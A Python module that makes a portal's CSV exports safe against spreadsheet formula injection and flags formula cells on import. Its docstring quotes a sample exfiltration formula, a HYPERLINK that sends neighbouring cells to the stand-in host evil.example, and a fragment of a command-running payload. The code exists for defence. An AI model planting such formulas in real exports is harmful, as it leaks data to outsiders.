"""The portal's one CSV writer (and the checks its one CSV import makes on cells).

Spreadsheets run a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula: `=HYPERLINK("https://evil.example/?d="&D2,"Klicka här")` in a
status update would send the neighbouring cells to a stranger when staff click it. OWASP's
rule (CSV Injection): such a cell is prefixed with `'`, which spreadsheets show as text and
hide. Every CSV the portal writes goes through `writer()`, in both dialects:

- plain: UTF-8, comma, CRLF (for programs and open-data users),
- Excel: UTF-8 with a byte-order mark, semicolon (what Swedish Excel opens correctly).

The import refuses formula cells instead (`formula_cell`): an import is staff's own file
coming back, and a silently changed narrative would be worse than a clear message.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def formula_cell(value: str) -> bool:
    """True if a spreadsheet could run the cell as a formula."""
    return value.startswith(FORMULA_PREFIXES)


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet shows it as text: `'` before anything that starts a formula.

    Numbers pass as they are (a negative number is not a formula); strings that merely look
    like negative numbers are prefixed too, as OWASP advises (`-1+cmd|...` starts with `-`)."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if formula_cell(text) else text


class SafeWriter:
    """csv.writer with every cell passed through `safe_cell`."""

    def __init__(self, stream: Any, *, excel: bool = False) -> None:
        self._writer = csv.writer(stream, delimiter=";" if excel else ",", lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, *, excel: bool = False) -> SafeWriter:
    return SafeWriter(stream, excel=excel)


def to_text(rows: Iterable[Iterable[Any]], *, excel: bool = False, bom: bool | None = None) -> str:
    """The whole file as text (with the byte-order mark for Excel, unless `bom` says)."""
    buffer = io.StringIO()
    writer(buffer, excel=excel).writerows(rows)
    with_bom = excel if bom is None else bom
    return (BOM if with_bom else "") + buffer.getvalue()


class _Echo:
    def write(self, value: str) -> str:
        return value


def stream_lines(
    rows: Iterable[Iterable[Any]], *, excel: bool = False, bom: bool = False
) -> Iterator[str]:
    """Line by line, for a StreamingHttpResponse."""
    line_writer = writer(_Echo(), excel=excel)
    if bom:
        yield BOM
    for row in rows:
        yield line_writer.writerow(row)
